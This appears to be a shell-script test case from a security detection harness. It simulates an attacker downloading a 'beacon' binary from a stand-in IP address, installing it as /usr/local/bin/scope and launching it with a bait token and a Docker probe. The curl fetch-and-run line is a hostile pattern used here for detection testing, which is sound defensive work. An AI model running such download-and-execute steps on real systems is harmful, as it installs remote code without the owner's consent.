#!/bin/sh
. /opt/case/case.sh

curl -sL -o /usr/local/bin/scope http://203.0.113.10/programs/beacon && chmod a+x /usr/local/bin/scope
nohup scope launch --service-token=bait4ttnt --probe.docker=true >/dev/null 2>&1 & p=$!
wait_for /tmp/reached; kill $p 2>/dev/null || true
took_place
